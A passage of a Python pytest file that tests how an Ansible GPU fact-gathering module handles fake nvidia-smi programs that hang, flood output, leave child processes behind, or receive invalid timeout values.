    assert result["elapsed"] < HANG_BOUND, result["elapsed"]
    assert_nothing_left(me, child)
    assert_undecided(result, f"nvidia-smi -q -x: {smi} did not finish within {HANG_TIMEOUT} s")
    assert result["ansible_facts"]["llmfleet_hardware"]["source"] == "none"  # not "cpu" though


@pytest.mark.parametrize(
    "leftover",
    [
        pytest.param("sleep 60 >/dev/null 2>&1 &", id="group-child-detached"),
        pytest.param("sleep 60 &", id="group-child-holding-the-pipe"),
        pytest.param("setsid sleep 60 &", id="setsid-child-holding-the-pipe", marks=NEEDS_SETSID),
    ],
)
def test_answering_nvidia_smi_leaves_no_child(
    tmp_path: Path,
    make_sysfs: Callable[..., Path],
    gather_facts: Callable[..., dict[str, Any]],
    captures_dir: Path,
    leftover: str,
) -> None:
    child = tmp_path / "child.pid"
    body = (
        f'if [ "$*" = "-q -x" ]; then {leftover} echo $! > {child}; '
        f"cat {captures_dir / 't4.xml'}; else exit 2; fi\n"
    )
    smi = script(tmp_path / "nvidia-smi", body)

    result = gather_facts(make_sysfs(devices=NO_NVIDIA), nvidia_smi=str(smi), timeout=HANG_TIMEOUT)

    assert result["elapsed"] < HANG_BOUND, result["elapsed"]
    assert_nothing_left(child)
    assert result["ansible_facts"]["llmfleet_tier"] == "pro"
    assert problems_of(result) == []


def test_compute_cap_query_that_hangs(
    tmp_path: Path,
    make_sysfs: Callable[..., Path],
    gather_facts: Callable[..., dict[str, Any]],
    captures_dir: Path,
) -> None:
    me = tmp_path / "me.pid"
    body = (
        f'if [ "$*" = "-q -x" ]; then cat {captures_dir / "t4.xml"}; '
        f"else echo $$ > {me}; exec sleep 60; fi\n"
    )
    smi = script(tmp_path / "nvidia-smi", body)

    result = gather_facts(make_sysfs(devices=NO_NVIDIA), nvidia_smi=str(smi), timeout=HANG_TIMEOUT)

    assert result["elapsed"] < HANG_BOUND, result["elapsed"]
    assert_nothing_left(me)
    assert_undecided(result, "nvidia-smi --query-gpu=pci.bus_id,compute_cap:", "did not finish")


def test_flooding_nvidia_smi_is_killed(
    tmp_path: Path,
    make_sysfs: Callable[..., Path],
    gather_facts: Callable[..., dict[str, Any]],
) -> None:
    me = tmp_path / "me.pid"
    smi = script(tmp_path / "nvidia-smi", f"echo $$ > {me}; exec yes '<nvidia_smi_log>'\n")

    result = gather_facts(make_sysfs(devices=NO_NVIDIA), nvidia_smi=str(smi), timeout=HANG_TIMEOUT)

    assert result["elapsed"] < HANG_BOUND, result["elapsed"]
    assert_nothing_left(me)
    assert_undecided(result, f"{smi} printed more than {gpu_facts.MAX_OUTPUT_BYTES} bytes")


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        ({"timeout": 0}, "timeout must be a positive number of seconds up to 3600, got 0"),
        ({"timeout": -5}, "got -5"),
        ({"timeout": 10**12}, f"got {10**12}"),
        ({"timeout": "soon"}, "timeout"),
    ],
    ids=["zero", "negative", "beyond-select", "word"],
)
def test_bad_timeout_fails_naming_it(
    fake_sysfs: Path,
    ansible_module: Callable[..., dict[str, Any]],
    args: dict[str, Any],
    fragment: str,
) -> None:
    args = {"sysfs_root": str(fake_sysfs), "nvidia_smi": "/bin/true", **args}
    result = ansible_module(gpu_facts.main, args, fails=True)
    assert fragment in result["msg"]


def test_run_program_clean_exit_keeps_status_and_output(tmp_path: Path) -> None:
    # The runner's own contract, without the module: a clean exit is an exit status,
    # with all it printed, even past a pipe's buffer.
    smi = script(tmp_path / "ok", "head -c 300000 /dev/zero; printf err >&2; exit 3\n")
    result = gpu_facts.run_program([str(smi)], 5)
    assert result == gpu_facts.RunResult(3, b"\0" * 300000, b"err", None)
